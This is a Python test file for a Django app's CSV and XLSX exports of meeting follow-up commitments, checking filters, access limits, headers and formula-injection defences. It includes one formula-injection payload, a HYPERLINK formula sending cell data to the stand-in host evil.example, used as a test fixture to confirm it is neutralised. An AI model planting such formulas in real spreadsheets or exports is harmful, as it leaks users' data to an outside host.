"""CSV and XLSX exports of the follow-up: same rows and filters as the page, formulas neutralised."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from enlace.core.exports import xlsx_cell
from enlace.core.models import Visibility
from enlace.followup.services import commitment_add_note, commitment_update_status
from tests.conftest import client_for
from tests.factories.followup import by_text, commitment, days, meeting_with, network_meeting, today

HEADERS_EN = [
    "Meeting",
    "Date of the meeting",
    "Agreement",
    "Commitment",
    "Responsible",
    "Recipient",
    "Deadline",
    "Deadline as written",
    "Status",
    "Overdue",
    "Last note",
    "Member states done",
]
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Ver")'


def test_xlsx_cell_drops_characters_excel_cannot_hold():
    assert xlsx_cell("línea\x0bnueva\x00") == "línea nueva "
    assert xlsx_cell("tab\tand\nnew line") == "tab\tand\nnew line"
    assert xlsx_cell("=1") == "=1"  # a text cell, never a formula: no quote needed


# --- the exports -----------------------------------------------------------------------------------------------


def english(user):
    user.language = "en"
    user.save()
    return user


@pytest.fixture
def meetings(organizations, iom_analyst):
    network = network_meeting()
    meeting_with(
        commitment("1", "Compromiso reservado de Costa Rica", ["CR"], due=days(9)),
        title="Reunión reservada",
        visibility=Visibility.RESTRICTED,
        owner=organizations["CR"],
    )
    meeting_with(commitment("1", FORMULA, ["IOM"], due=days(60)), title="@Reunión con fórmula")
    nudos = by_text("nudos claves")
    commitment_update_status(commitment=nudos, actor=iom_analyst, status="in_progress", note="Primera nota")
    commitment_add_note(commitment=nudos, actor=iom_analyst, text="-Última nota, con guion")
    return network


def export(user, fmt, query=""):
    response = client_for(user).get(reverse("followup:export", args=[fmt]) + query)
    assert response.status_code == 200
    return response


def read_csv(response) -> list[list[str]]:
    content = response.content
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 byte order mark, for Excel
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_csv(iom_analyst, meetings):
    response = export(iom_analyst, "csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        response["Content-Disposition"]
        == f'attachment; filename="enlace-follow-up-{today().isoformat()}.csv"'
    )
    table = read_csv(response)
    assert table[0] == HEADERS_EN
    assert len(table) == 1 + 7  # six network commitments and the one with a formula; not the restricted one
    nudos = next(row for row in table if row[3].startswith("Analizar los nudos"))
    assert nudos == [
        "Reunión de la Red de Funcionarios de Enlace",
        "2026-06-08",
        "3.a",
        "Analizar los nudos claves en el combate al tráfico ilícito",
        "IOM",
        "",
        days(-10).isoformat(),
        "",
        "In progress",
        "yes",
        "'-Última nota, con guion",
        "",  # IOM's alone: no shares
    ]
    states = next(row for row in table if row[2] == "2.a")
    assert states[4] == "the member states" and states[5] == "TS"
    assert states[11] == "0 of 11"  # followed per member state
    assert states[7] == "en un plazo no mayor a dos meses" and states[9] == "no"
    formula = next(row for row in table if "HYPERLINK" in row[3])
    assert formula[3] == "'" + FORMULA
    assert formula[0] == "'@Reunión con fórmula"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in table for cell in row)
    # The user's own organization first, as on the page.
    assert [row[3][:10] for row in table[1:4]] == ["Analizar l", "Ofrecer ca", "'=HYPERLIN"]


def test_spanish_file_name_and_the_same_filters_as_the_page(mexico_officer, meetings):
    response = export(mexico_officer, "csv", "?organization=IOM&status=active")
    assert f'filename="enlace-seguimiento-{today().isoformat()}.csv"' in response["Content-Disposition"]
    table = read_csv(response)
    assert {row[3][:15] for row in table[1:]} == {"Analizar los nu", "Ofrecer capacid", "'=HYPERLINK(\"ht"}
    # A bad filter is ignored, never an error, and never widens what the user may see.
    table = read_csv(export(mexico_officer, "csv", "?due_from=notadate&meeting=999999"))
    assert len(table) == 1 + 7
    assert not any("reservado" in row[3] for row in table)


def test_secretariat_exports_everything(secretariat_staff, meetings):
    assert len(read_csv(export(secretariat_staff, "csv"))) == 1 + 8


def test_xlsx(iom_analyst, meetings):
    response = export(iom_analyst, "xlsx")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert f'filename="enlace-follow-up-{today().isoformat()}.xlsx"' in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [cell.value for cell in sheet[1]] == HEADERS_EN
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:L8"
    assert sheet.column_dimensions["D"].width >= 40
    assert sheet.max_row == 8
    row = next(r for r in sheet.iter_rows(min_row=2) if str(r[3].value).startswith("Analizar los nudos"))
    assert row[1].value == dt.datetime(2026, 6, 8) and row[1].is_date
    assert row[6].value.date() == days(-10) and row[6].is_date
    assert [row[2].value, row[4].value, row[8].value, row[9].value] == ["3.a", "IOM", "In progress", "yes"]
    assert row[10].value == "-Última nota, con guion"  # exactly what was typed
    formula = next(r for r in sheet.iter_rows(min_row=2) if "HYPERLINK" in str(r[3].value))
    assert formula[3].value == FORMULA and formula[3].data_type == "s"
    assert formula[0].value == "@Reunión con fórmula"
    assert not any(cell.data_type == "f" for r in sheet.iter_rows() for cell in r)


def test_xlsx_headers_in_the_users_language(mexico_officer, meetings):
    sheet = load_workbook(io.BytesIO(export(english(mexico_officer), "xlsx").content)).active
    assert sheet["A1"].value == "Meeting"


def test_unknown_format_is_404(iom_analyst, meetings):
    client = client_for(iom_analyst)
    for fmt in ("pdf", "json", "CSV"):
        assert client.get(reverse("followup:export", args=[fmt])).status_code == 404


def test_anonymous_visitor_gets_no_export(anonymous_visitor, meetings):
    for fmt in ("csv", "xlsx"):
        response = client_for(anonymous_visitor).get(reverse("followup:export", args=[fmt]))
        assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_empty_export_still_has_headers(iom_analyst, organizations):
    assert read_csv(export(iom_analyst, "csv")) == [HEADERS_EN]
    sheet = load_workbook(io.BytesIO(export(iom_analyst, "xlsx").content)).active
    assert sheet.max_row == 1


def test_semicolon_csv_for_spreadsheets_that_split_on_semicolons(iom_analyst, meetings):
    response = export(iom_analyst, "semicolon.csv")
    assert response.status_code == 200
    assert f'filename="enlace-follow-up-{today().isoformat()}.csv"' in response["Content-Disposition"]
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0] == HEADERS_EN
    comma_rows = read_csv(export(iom_analyst, "csv"))
    assert rows == comma_rows  # the same cells, another separator
    assert "'=HYPERLINK" in text  # formula starts still neutralised


def test_the_page_offers_each_download(iom_analyst, meetings):
    page = client_for(iom_analyst).get(reverse("followup:page")).content.decode()
    for fmt in ("csv", "semicolon.csv", "xlsx"):
        assert reverse("followup:export", args=[fmt]) in page
